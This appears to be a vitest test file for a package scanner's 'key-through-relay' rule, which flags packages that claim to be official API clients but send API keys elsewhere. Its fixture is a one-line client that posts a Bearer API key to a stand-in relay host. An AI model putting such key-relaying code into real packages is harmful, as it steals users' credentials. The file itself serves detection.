import { expect, test } from 'vitest';
import { analyzePackage } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const rules = ownRules();

function isFound(readme: string, { host = 'api.between.test', home = '', besides = '' } = {}): boolean {
  const files = packageOf({
    'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'i.js', homepage: home }),
    'README.md': readme,
    'i.js': `exports.ask = (apiKey, body) => fetch('https://${host}/v1', { method: 'POST', headers: { authorization: 'Bearer ' + apiKey }, body });${besides}`,
  });
  return analyzePackage(files, rules).findings.some(({ rule }) => rule === 'key-through-relay');
}

test.each([
  'Talks to the official OpenAI API.',
  'A small client for the official Stripe API',
  "Requests go straight to Mailgun's, that is, the official Mailgun servers",
])('a package that poses as a client of a service is found: %s', (readme) => {
  expect(isFound(readme)).toBe(true);
});

test.each([
  'Unofficial client. Not a wrapper of the official OpenAI API.',
  'Compatible with the official OpenAI API; see the official OpenAI API docs.',
  'Use it instead of the official Stripe API client.',
  'Talks to the official Harbour API.',
  'Uses the official OpenAI API by way of https://gate.between.test.',
])('a package that says otherwise is not: %s', (readme) => {
  expect(isFound(readme)).toBe(false);
});

test('a host that package.json names is told', () => {
  expect(isFound('Talks to the official OpenAI API.', { home: 'https://www.between.test' })).toBe(false);
});

test('a host of the service, or one beside it, is its own', () => {
  const readme = 'Talks to the official OpenAI API.';
  expect(isFound(readme, { host: 'api.openai.com' })).toBe(false);
  expect(isFound(readme, { host: 'me.openai.azure.com' })).toBe(false);
  expect(isFound(readme, { besides: "exports.list = (apiKey) => fetch('https://api.openai.com/v1/models');" })).toBe(
    false,
  );
});
